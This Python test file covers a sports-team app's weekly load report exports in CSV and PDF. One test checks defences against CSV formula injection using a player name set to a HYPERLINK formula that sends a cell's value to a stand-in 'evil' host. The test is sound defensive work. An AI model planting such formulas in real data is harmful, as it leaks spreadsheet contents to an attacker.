"""GET /teams/{team_id}/reports/weekly.csv and weekly.pdf: the week per player and day."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import httpx
import pytest
from pypdf import PageObject, PdfReader
from sqlalchemy.ext.asyncio import AsyncEngine

from app.models import (
    Attendance,
    AttendanceStatus,
    Availability,
    DailyLoad,
    Role,
    TeamMembership,
    TrainingSession,
    User,
    WellnessLog,
)
from app.services.loads.summary import iso_week_label
from tests.fixtures.actors import Api, Squad, started_at
from tests.fixtures.databases import count_statements
from tests.fixtures.stored_problems import add_problem, clinical_words_in

TODAY = datetime.now(UTC).date()
MONDAY = TODAY - timedelta(days=TODAY.weekday() + 7)  # last week's, complete in every zone
WEEK = iso_week_label(MONDAY)
DAYS = [MONDAY + timedelta(days=i) for i in range(7)]
THURSDAY = DAYS[3]


def _path(squad: Squad, kind: str) -> str:
    return f"/teams/{squad.team['id']}/reports/weekly.{kind}"


async def _seed(api: Api, squad: Squad) -> None:
    """Player: five weeks of 300 AU a day with a spike on the week's Thursday, a session each
    weekday of the week, a red check-in on Tuesday. Teammate: absent from Wednesday's session
    and a green check-in on Monday."""
    team_id = squad.team["id"]
    player, teammate = squad.player_membership["id"], squad.teammate_membership["id"]
    async with api.sessionmaker.begin() as session:
        for back in range(35):
            day = DAYS[-1] - timedelta(days=back)
            session.add(
                DailyLoad(
                    team_id=team_id,
                    membership_id=player,
                    date=day,
                    internal_load_au=1500 if day == THURSDAY else 300,
                    external_load_pl=410.5 if day in DAYS else 0.0,
                    attended_sessions=1,
                    rated_sessions=1,
                )
            )
        for day in DAYS[:5]:
            start = started_at(day)
            training = TrainingSession(
                team_id=team_id,
                title="Training",
                start=start,
                end=start + timedelta(minutes=90),
                day=day,
            )
            session.add(training)
            await session.flush()
            session.add(
                Attendance(
                    team_id=team_id,
                    session_id=training.id,
                    membership_id=player,
                    status=AttendanceStatus.PRESENT,
                    minutes_participated=90,
                )
            )
            if day == DAYS[2]:
                session.add(
                    Attendance(
                        team_id=team_id,
                        session_id=training.id,
                        membership_id=teammate,
                        status=AttendanceStatus.ABSENT,
                    )
                )
        session.add(
            WellnessLog(
                team_id=team_id,
                membership_id=player,
                date=DAYS[1],
                sleep_quality=1,
                mood=4,
                soreness=4,
                stress=4,
                fatigue=4,
            )
        )
        session.add(
            WellnessLog(
                team_id=team_id,
                membership_id=teammate,
                date=DAYS[0],
                sleep_quality=4,
                mood=4,
                soreness=4,
            )
        )


async def _csv(client: httpx.AsyncClient, squad: Squad, week: str = WEEK) -> list[dict[str, str]]:
    response = await client.get(
        _path(squad, "csv"), params={"week": week}, headers=squad.coach.headers
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == (
        f'attachment; filename="Harbour-RFC-{week}.csv"'
    )
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_csv_has_seven_rows_per_player_with_the_weeks_values(api: Api, squad: Squad) -> None:
    await _seed(api, squad)
    rows = await _csv(api.client, squad)
    player, teammate = squad.player_membership["id"], squad.teammate_membership["id"]
    assert len(rows) == 14
    # Players in roster order (jersey numbers first), each Monday to Sunday.
    assert [int(r["membership_id"]) for r in rows] == [player] * 7 + [teammate] * 7
    assert [r["date"] for r in rows[:7]] == [d.isoformat() for d in DAYS]
    assert [r["weekday"] for r in rows[:7]] == ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
    mine = {r["date"]: r for r in rows[:7]}
    theirs = {r["date"]: r for r in rows[7:]}
    assert rows[0]["player"] == "Player" and rows[0]["jersey_number"] == "9"
    assert rows[7]["jersey_number"] == ""
    assert [int(mine[d.isoformat()]["internal_load_au"]) for d in DAYS] == [
        300, 300, 300, 1500, 300, 300, 300
    ]  # fmt: skip
    assert mine[DAYS[0].isoformat()]["external_load_pl"] == "410.5"
    assert [r["sessions"] for r in rows[:7]] == ["1"] * 5 + ["0"] * 2
    assert [r["attendance"] for r in rows[:7]] == ["PRESENT"] * 5 + [""] * 2
    assert [r["attended"] for r in rows[:7]] == ["1"] * 5 + ["0"] * 2
    assert theirs[DAYS[2].isoformat()]["attendance"] == "ABSENT"
    assert theirs[DAYS[2].isoformat()]["attended"] == "0"
    assert theirs[DAYS[2].isoformat()]["sessions"] == "1"
    # Wellness: the total of the items given and the flag of the worst.
    tuesday = mine[DAYS[1].isoformat()]
    assert (tuesday["wellness_total"], tuesday["wellness_flag"]) == ("17", "red")
    monday = theirs[DAYS[0].isoformat()]
    assert (monday["wellness_total"], monday["wellness_flag"]) == ("12", "green")
    assert mine[DAYS[0].isoformat()]["wellness_total"] == ""
    # The teammate has no load at all: zeros and no ratio.
    assert {r["internal_load_au"] for r in rows[7:]} == {"0"}
    assert {r["acwr"] for r in rows[7:]} == {""}
    # ACWR and zone agree with the member's ACWR series.
    response = await api.client.get(
        f"/performance/members/{player}/acwr",
        params={"from": DAYS[0].isoformat(), "to": DAYS[-1].isoformat()},
        headers=squad.coach.headers,
    )
    assert response.status_code == 200, response.text
    for point in response.json()["points"]:
        row = mine[point["date"]]
        assert row["acwr"] == f"{point['ratio']:.2f}"
        assert row["acwr_zone"] == point["zone"]
        assert row["acute_ewma"] == f"{point['acute_ewma']:.1f}"
    assert mine[DAYS[2].isoformat()]["acwr_zone"] == "optimal"
    assert mine[THURSDAY.isoformat()]["acwr_zone"] == "danger"


async def test_the_week_defaults_to_the_current_one(api: Api, squad: Squad) -> None:
    response = await api.client.get(_path(squad, "csv"), headers=squad.coach.headers)
    assert response.status_code == 200, response.text
    assert iso_week_label(TODAY) in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    this_monday = TODAY - timedelta(days=TODAY.weekday())
    assert [r["date"] for r in rows[:7]] == [
        (this_monday + timedelta(days=i)).isoformat() for i in range(7)
    ]


@pytest.mark.parametrize(
    "week", ["2026-48", "2026-W4", "2026-W00", "1999-W10", "2101-W01", "2025-W53", "x", ""]
)
async def test_a_malformed_week_is_a_422_naming_it(
    client: httpx.AsyncClient, squad: Squad, week: str
) -> None:
    for kind in ("csv", "pdf"):
        response = await client.get(
            _path(squad, kind), params={"week": week}, headers=squad.coach.headers
        )
        assert response.status_code == 422, (week, response.text)
        assert response.json()["errors"][0]["loc"] == ["query", "week"]


async def test_week_53_exists_in_long_years(client: httpx.AsyncClient, squad: Squad) -> None:
    rows = await _csv(client, squad, "2026-W53")
    assert rows[0]["date"] == "2026-12-28"


async def test_only_the_teams_staff_may_read_them(client: httpx.AsyncClient, squad: Squad) -> None:
    for kind in ("csv", "pdf"):
        path = _path(squad, kind)
        assert (await client.get(path, headers=squad.player.headers)).status_code == 403
        assert (await client.get(path, headers=squad.outsider.headers)).status_code == 404
        assert (await client.get(path)).status_code == 401
        assert (await client.get(path, headers=squad.owner.headers)).status_code == 200
        assert (await client.get(path, headers=squad.admin.headers)).status_code == 200


async def _pdf(client: httpx.AsyncClient, squad: Squad) -> tuple[PdfReader, httpx.Response]:
    response = await client.get(
        _path(squad, "pdf"), params={"week": WEEK}, headers=squad.coach.headers
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="Harbour-RFC-{WEEK}.pdf"'
    )
    assert response.content.startswith(b"%PDF")
    return PdfReader(io.BytesIO(response.content)), response


async def test_pdf_has_cover_roster_and_player_charts(api: Api, squad: Squad) -> None:
    await _seed(api, squad)
    reader, _ = await _pdf(api.client, squad)
    # Cover, roster with the team's daily load, then up to three players a page.
    assert len(reader.pages) == 3
    cover, roster_page, players_page = (page.extract_text() for page in reader.pages)
    assert "Weekly load report" in cover
    assert "Harbour RFC" in cover
    assert f"ISO week {WEEK}" in cover
    assert "Roster" in roster_page and WEEK in roster_page
    assert "Player" in roster_page and "Teammate" in roster_page
    assert "Team daily load" in roster_page
    # Status as of the week's Sunday: the player's ACWR is optimal, the teammate has nothing.
    assert re.search(r"Player\s+green\s+1\.16\s+optimal", roster_page), roster_page
    assert re.search(r"Teammate\s+no data", roster_page), roster_page
    roster_content = _content(reader.pages[1])
    assert _filled_rectangles(roster_content, "#3aa757") == 1  # the green status cell
    assert _filled_rectangles(roster_content, "#b0b0b0") == 1  # the grey no-data cell
    assert "#9 Player" in players_page and "Teammate" in players_page
    # Each player's chart carries the four zone bands with their labels.
    for band in ("low", "optimal", "high", "danger"):
        assert len(re.findall(rf"\b{band}\b", players_page)) >= 2, band
    assert reader.pages[0].mediabox.width == pytest.approx(595.27, abs=0.1)  # A4


_FILLED_RECT = re.compile(
    r"([\d.]+) ([\d.]+) ([\d.]+) rg\n(?:[^\n]*\n){0,6}?(?:n )?[-\d. ]+ re f\*?\n"
)
# services.coach.weekly_pdf.BAND_COLOURS
BANDS = {"low": "#dce9f7", "optimal": "#d7f0dc", "high": "#fde7c4", "danger": "#f8d0ce"}


def _content(page: PageObject) -> str:
    """A page's content stream, decoded."""
    contents = page.get_contents()
    assert contents is not None  # a page without a content stream has nothing drawn
    return contents.get_data().decode("latin-1")


def _filled_rectangles(content: str, hex_colour: str) -> int:
    """Rectangles filled with ``hex_colour`` in a page's content stream."""
    wanted = [int(hex_colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    return sum(
        all(abs(float(got) - want) < 1e-3 for got, want in zip(m.groups(), wanted, strict=True))
        for m in _FILLED_RECT.finditer(content)
    )


async def test_pdf_charts_shade_the_zone_bands(api: Api, squad: Squad) -> None:
    await _seed(api, squad)
    reader, _ = await _pdf(api.client, squad)
    content = _content(reader.pages[2])
    for band, colour in BANDS.items():
        assert _filled_rectangles(content, colour) == 2, band  # one per player's chart
    # Not on the cover or the roster page.
    cover = _content(reader.pages[0])
    assert _filled_rectangles(cover, BANDS["danger"]) == 0


async def test_pdf_pages_grow_three_players_at_a_time(api: Api, squad: Squad) -> None:
    async with api.sessionmaker.begin() as session:
        for i in range(5):
            user = User(
                email=f"extra{i}-{squad.team['id']}@example.com",
                full_name=f"Extra Player {i}",
                password_hash="x",
            )
            session.add(user)
            await session.flush()
            session.add(TeamMembership(team_id=squad.team["id"], user_id=user.id, role=Role.PLAYER))
    reader, _ = await _pdf(api.client, squad)
    assert len(reader.pages) == 2 + 3  # seven players: three pages of charts
    text = "".join(page.extract_text() for page in reader.pages[2:])
    for i in range(5):
        assert f"Extra Player {i}" in text


async def test_statement_count_does_not_grow_with_the_team(
    api: Api, squad: Squad, engine: AsyncEngine
) -> None:
    await _seed(api, squad)
    path = _path(squad, "csv")
    await api.client.get(path, params={"week": WEEK}, headers=squad.coach.headers)  # warm up
    with count_statements(engine) as small:
        await api.client.get(path, params={"week": WEEK}, headers=squad.coach.headers)
    async with api.sessionmaker.begin() as session:
        for i in range(12):
            user = User(
                email=f"more{i}-{squad.team['id']}@example.com", full_name="M", password_hash="x"
            )
            session.add(user)
            await session.flush()
            member = TeamMembership(team_id=squad.team["id"], user_id=user.id, role=Role.PLAYER)
            session.add(member)
            await session.flush()
            for day in DAYS:
                session.add(
                    DailyLoad(
                        team_id=squad.team["id"],
                        membership_id=member.id,
                        date=day,
                        internal_load_au=200,
                    )
                )
    await api.client.get(path, params={"week": WEEK}, headers=squad.coach.headers)  # warm up
    with count_statements(engine) as large:
        response = await api.client.get(path, params={"week": WEEK}, headers=squad.coach.headers)
    assert len(response.text.strip().splitlines()) == 1 + 14 * 7
    assert len(small) == len(large), (small, large)


async def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(api: Api, squad: Squad) -> None:
    """A player who calls themselves ``=HYPERLINK(...)`` must not get a live formula into
    the coach's spreadsheet: the cell starts with an apostrophe, which Excel and Sheets
    show as text; the numbers of the same rows are unchanged."""
    await _seed(api, squad)
    attack = '=HYPERLINK("http://evil/?"&A1,"Click")'
    async with api.sessionmaker.begin() as session:
        user = await session.get(User, squad.player.id)
        assert user is not None
        user.full_name = attack
        teammate = await session.get(User, squad.teammate.id)
        assert teammate is not None
        teammate.full_name = "@SUM(1+1)"
    rows = await _csv(api.client, squad)
    assert {r["player"] for r in rows[:7]} == {"'" + attack}
    assert {r["player"] for r in rows[7:]} == {"'@SUM(1+1)"}
    assert rows[0]["internal_load_au"] == "300"
    assert rows[0]["external_load_pl"] == "410.5"


async def _week_of_problems(api: Api, squad: Squad) -> None:
    """Player: a hamstring strain from Tuesday, unavailable, modified from Thursday,
    resolved on Saturday. Teammate: an illness from Wednesday at modified, and from
    Thursday an ankle sprain, unavailable, still open."""
    await add_problem(
        api.sessionmaker,
        squad.player_membership,
        DAYS[1],
        [(DAYS[1], Availability.UNAVAILABLE), (DAYS[3], Availability.MODIFIED)],
        summary="Hamstring strain",
        resolved_on=DAYS[5],
    )
    await add_problem(
        api.sessionmaker,
        squad.teammate_membership,
        DAYS[2],
        [(DAYS[2], Availability.MODIFIED)],
        summary="Cold",
    )
    await add_problem(
        api.sessionmaker,
        squad.teammate_membership,
        DAYS[3],
        [(DAYS[3], Availability.UNAVAILABLE)],
        summary="Ankle sprain",
    )


async def test_csv_has_the_availability_of_each_day(api: Api, squad: Squad) -> None:
    """Worked example (see ``_week_of_problems``), Monday to Sunday:
    player available, unavailable, unavailable, modified, modified, available (resolved
    on Saturday), available; teammate available, available, modified, then unavailable
    from Thursday on (the most restrictive of the two open problems)."""
    await _seed(api, squad)
    await _week_of_problems(api, squad)
    response = await api.client.get(
        _path(squad, "csv"), params={"week": WEEK}, headers=squad.coach.headers
    )
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0])[-1] == "availability"
    assert [r["availability"] for r in rows[:7]] == [
        "available", "unavailable", "unavailable", "modified", "modified", "available",
        "available",
    ]  # fmt: skip
    assert [r["availability"] for r in rows[7:]] == [
        "available", "available", "modified", "unavailable", "unavailable", "unavailable",
        "unavailable",
    ]  # fmt: skip
    # Neither the clinical fields nor the summaries are in the spreadsheet.
    assert clinical_words_in(response.text) == []
    assert "Hamstring" not in response.text


async def test_csv_availability_is_empty_after_today(api: Api, squad: Squad) -> None:
    """The current week: each day up to today has an availability, the days after it none
    (like the ACWR, it is not known yet)."""
    await add_problem(
        api.sessionmaker, squad.player_membership, TODAY, [(TODAY, Availability.MODIFIED)]
    )
    response = await api.client.get(_path(squad, "csv"), headers=squad.coach.headers)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    mine = {r["date"]: r["availability"] for r in rows[:7]}
    for day, availability in mine.items():
        expected = (
            "modified"
            if day == TODAY.isoformat()
            else "available"
            if day < TODAY.isoformat()
            else ""
        )
        assert availability == expected, (day, mine)


async def test_pdf_roster_shows_the_availability(api: Api, squad: Squad) -> None:
    """As of the week's Sunday (see ``_week_of_problems``): the player is available again,
    the teammate unavailable, written in the roster table; no clinical word anywhere."""
    await _seed(api, squad)
    await _week_of_problems(api, squad)
    reader, response = await _pdf(api.client, squad)
    roster_page = reader.pages[1].extract_text()
    assert "Availability" in roster_page
    # The last cell of each row: # Player Position Status ACWR Zone Load PL Attended Wellness.
    assert re.search(
        r"Player\s+green\s+1\.16\s+optimal\s+3,300\s+2,874\s+5/5\s+17\.0 \(1d\)\s+available\n",
        roster_page,
    ), roster_page
    assert re.search(
        r"Teammate\s+no data\s+0\s+0\s+0/1\s+12\.0 \(1d\)\s+unavailable\n", roster_page
    ), roster_page
    # Unavailable is written in the availability red (weekly_pdf.AVAILABILITY_COLOURS).
    content = _content(reader.pages[1])
    assert re.search(r"\.662745 \.196078 \.14902 rg\n[^\n]*\n[^\n]*\(unavailable\) Tj", content)
    text = "".join(page.extract_text() for page in reader.pages)
    assert clinical_words_in(text) == []
    assert clinical_words_in(response.content.decode("latin-1")) == []
